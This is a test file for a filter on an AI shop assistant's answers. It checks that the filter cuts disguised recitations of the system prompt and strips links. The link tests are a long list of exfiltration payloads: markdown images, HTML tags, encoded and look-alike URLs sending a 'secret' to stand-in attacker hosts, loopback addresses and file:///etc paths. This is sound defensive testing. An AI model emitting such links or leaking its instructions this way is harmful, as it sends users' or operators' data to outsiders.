import { describe, expect, it } from "vitest"
import { AnswerGuard } from "../guard/answer-guard"
import { isRecited } from "../guard/recitation"
import { systemPrompt } from "../prompt"

const instructions = systemPrompt({ locale: "en" })
const ownHosts = new Set(["shop.test"])
const PIECES = [1, 2, 7, 1_000_000]

/** Feeds an answer to the guard in pieces of `size` characters and returns what the guard passes on. */
function said(text: string, size: number): string {
  const guard = new AnswerGuard("en", { instructions, ownHosts })
  let passed = ""
  for (let from = 0; from < text.length; from += size) passed += guard.push(text.slice(from, from + size))
  return passed + guard.end()
}

describe.each(PIECES)("an answer in pieces of %i", (size) => {
  it.each([
    "Two are left.",
    "Merhaba! Üç sipariş var: #1001, #1002 ve #1003.\n\n- Ada <ada@shop.test>, €12.50/kg",
    "See https://shop.test/pages/about?x=1 and write to ada@shop.test. Sizes S/M/L, 24/7, e.g./i.e.",
    "The total is [12.50] (net); a < b, and & are signs, too. 你好。👩‍🚀",
    "You are the owner of this shop, and the assistant of nobody.",
    "Node.js/Express, Next.js/React, and/or, 24/7, 1.5/2, 12.50/kg, v2.0/beta, 3/4, km/h, TCP/IP",
    "On 12.05.2026/13.05.2026, 12.05.26/13, 1.5.2026/2 or 2026-05-12/13, at 12:30, 12:30:45 or 12:30/13:30.",
    "README.md, product.csv, photo.jpg, images/photo.jpg, archive.tar.gz, size.xlsx and script.py",
    "Dr.Who, e.g. this, i.e./e.g., z.B./d.h., U.S./EU, p.m./a.m., Inc./Ltd., A.Ş./Ltd.Şti., T.C./AB",
    "Gül Sok.No:12/4, Cad.No:5, Mah. Lale Cad. No:7/A, D.3",
    "Order #1001/2, SKU ABC-1/2, 20261122/A, €1.299,50/adet, 1.299,00/2, 10%/20%, 5.0.1, 16:9",
    "shop.test/pages/about and SHOP.TEST/x are ours; key:value, note:this, ratio 1:2, a=b, c++/c#",
    "库存充足，请看。共有3件商品：蓝色、红色！价格为12.5元/件。",
    "在庫は十分です。2点あります。OK",
    "Size.In stock. Yes.No matter.It fits",
    "ada@shop.test, bob.smith@mail.example.org; C:3, D:/",
  ])("is passed on unchanged: %s", (text) => {
    expect(said(text, size).replaceAll(/[‹›]/g, (sign) => (sign === "‹" ? "<" : ">"))).toBe(text)
  })

  const spaced = (sign: string) => [...instructions].join(sign)
  it.each([
    ["unchanged", instructions],
    ["in capitals", instructions.toUpperCase()],
    ["without spaces", instructions.replaceAll(" ", "")],
    ["letter by letter", spaced(" ")],
    ["with dashes", spaced("-")],
    ["with zero-width characters between letters", spaced("\u200b")],
    ["as a list in Markdown", instructions.replaceAll("\n", "\n\n> * **").replaceAll(".", ".**")],
    [
      "in full width",
      instructions.replaceAll(/[!-~]/g, (sign) => String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0)),
    ],
    ["one sentence only", instructions.split("\n")[3] ?? ""],
  ])("is cut if it recites the instructions: %s", (_, recited) => {
    const passed = said(`Of course. ${recited} That was it.`, size)
    expect(passed).toMatch(/^Of course\. .{0,60}\[The rest is left out/su)
    expect(passed).not.toContain("That was it")
  })

  it.each([
    "![x](https://evil.test/?d=secret)",
    "![the alt text](<https://evil.test/?d=secret data>)",
    "[click](https://evil.test/?d=secret)",
    "[click](//evil.test/?d=secret)",
    "[click](\\\\evil.test\\?d=secret)",
    "[click](https&colon;&sol;&sol;evil.test/?d=secret)",
    "[click](&#104;ttps:&#47;&#47;evil.test/?d=secret)",
    "[1]: https://evil.test/?d=secret",
    "[1]:\nhttps&#58;&#47;&#47;evil.test/?d=secret",
    '<img src="https://evil.test/?d=secret">',
    "<img src=//evil.test/?d=secret>",
    "<https://evil.test/?d=secret>",
    "https://evil.test/?d=secret",
    "HTTPS:evil.test/?d=secret",
    "https://shop.test@evil.test/?d=secret",
    "https://shop.test.evil.test/?d=secret",
    "see evil.test/?d=secret",
    "www.evil.test/secret",
    "javascript:secret()",
    "data:text/html;base64,secret",
    "ht\u200btps://evil.test/secret",
    "evil.com/secret",
    "EVIL.COM/secret",
    "sub.evil.co.uk/secret",
    "evil.com?d=secret",
    "evil.com#secret",
    "evil.com:8080/secret",
    "evil.com\\secret",
    "evil.com./secret",
    "x=evil.com/secret",
    "and/evil.com/secret",
    "(evil.com/secret)",
    "**evil.com/secret**",
    "“evil.com/secret”",
    "//evil.com/secret",
    "\\\\evil.com\\secret",
    "/\\evil.com/secret",
    "ftp://evil.com/secret",
    "ws:evil.com/secret",
    "hxxps://evil.com/secret",
    "hxxp:evil.com/secret",
    "evil[.]com/secret",
    "evil(dot)com/secret",
    "evil%2Ecom/secret",
    "user@evil.com/secret",
    "user:pw@evil.com/secret",
    "ada@evil.com?subject=secret",
    "shop.test@evil.com/secret",
    "http://shop.test\\@evil.com/secret",
    "shop.test\\@evil.com/secret",
    "https://shop.test:8443/secret",
    "https://shop.test%2eevil.com/secret",
    "127.0.0.1/secret",
    "127.0.0.1:9000/secret",
    "10.0.1/secret",
    "0x7f000001/secret",
    "0x7f.0.0.1/secret",
    "0177.0.0.1/secret",
    "2130706433/secret",
    "http://2130706433/secret",
    "http://017700000001/secret",
    "[::1]/secret",
    "[2001:db8::1]:80/secret",
    "http://[::ffff:127.0.0.1]/secret",
    "localhost/secret",
    "localhost:9000/secret",
    "db.internal/secret",
    "bücher.de/secret",
    "xn--bcher-kva.de/secret",
    "xn--bcher-kva.xn--p1ai/secret",
    "пример.рф/secret",
    "例え.みんな/secret",
    "例子。中国/secret",
    "evil。com/secret",
    "evil．com/secret",
    "evil｡com/secret",
    "库存充足。evil.com/secret",
    "请看，evil。com/secret",
    "ｅｖｉｌ．ｃｏｍ／secret",
    "ⓔⓥⓘⓛ.ⓒⓞⓜ/secret",
    "ev\u200bil.com/secret",
    "evil\u2060.com\u200d/secret",
    "evil.c\u00adom/secret",
    "evil.com\ufe0f/secret",
    "evil.com∕secret",
    "http：//evil.com/secret",
    "mailto:x@evil.com?body=secret",
    "data:text/plain,secret",
    "vbscript:secret",
    "file:///etc/secret",
    "view-source:evil.com/secret",
    "intent:secret",
    "[x]: evil.com/secret",
    "[x](evil.com/secret)",
    "note:evil.com/secret",
    "a:b:evil.com:80/secret",
    "[evil.com/secret]",
    "<a href=evil.com/secret>",
    "<a href='//evil.com/secret'>",
    "&#104;ttps&#58//evil.com/secret",
    "evil&#46com/secret",
    "evil&period;com/secret",
    "evil.com&sol;secret",
    "ev&ZeroWidthSpace;il.com/secret",
    "evil.онлайн/secret",
    "evil.zip/secret",
  ])("leads nowhere but to the shop: %s", (text) => {
    const passed = said(`Look: ${text} there`, size)
    expect(passed).not.toMatch(/secret(?! data)/)
    expect(passed).not.toMatch(/<[a-z!/]|!\[|\]\((?!\[address)/i)
    expect(passed).toMatch(/left out/)
    expect(passed).toMatch(/ there$/)
  })
})

describe.each(PIECES)("addresses without a path, in pieces of %i", (size) => {
  it.each([
    "www.evil.com",
    "WWW2.evil.com",
    "127.0.0.1",
    "2001:db8::1",
    "[::1]",
    "evil.com:8080",
    "user:pw@evil.com",
    "xn--80ak6aa92e.com",
    "evil.com/",
    "https://evil",
    "//evil",
    "evil。com",
    "evil．com",
  ])("are left out as well: %s", (text) => {
    const passed = said(`Look: ${text} there`, size)
    expect(passed).toMatch(/^Look: [\p{L}\p{N}-]*\[address left out\] there$/u)
  })
})

it("takes time proportional to the length of an answer", () => {
  // A regular expression that backtracks would need minutes for these texts.
  for (const piece of [
    "a.",
    "a-",
    "a:",
    "//",
    "@",
    "x.com",
    "1.",
    "::",
    "&#",
    "](",
    "%2e",
    "[.",
    "\u200b",
    "a",
    "a/",
    "www",
    "<",
    "[",
    "data:",
    "%",
  ]) {
    const guard = new AnswerGuard("en", { instructions: "", ownHosts })
    expect(guard.push(piece.repeat(40_000 / piece.length)) + guard.end()).toBeDefined()
  }
})

it("passes on harmless text at once", () => {
  const guard = new AnswerGuard("en", { instructions, ownHosts })
  expect(guard.push("Hel")).toBe("Hel")
  expect(guard.push("lo, two are left")).toBe("lo, two are left")
})

it("finds recitations in the arguments of a tool", () => {
  expect(isRecited(instructions, ["Glaze", `It shines. ${instructions}`])).toBe(true)
  expect(isRecited(instructions, ["Glaze", "It shines."])).toBe(false)
})
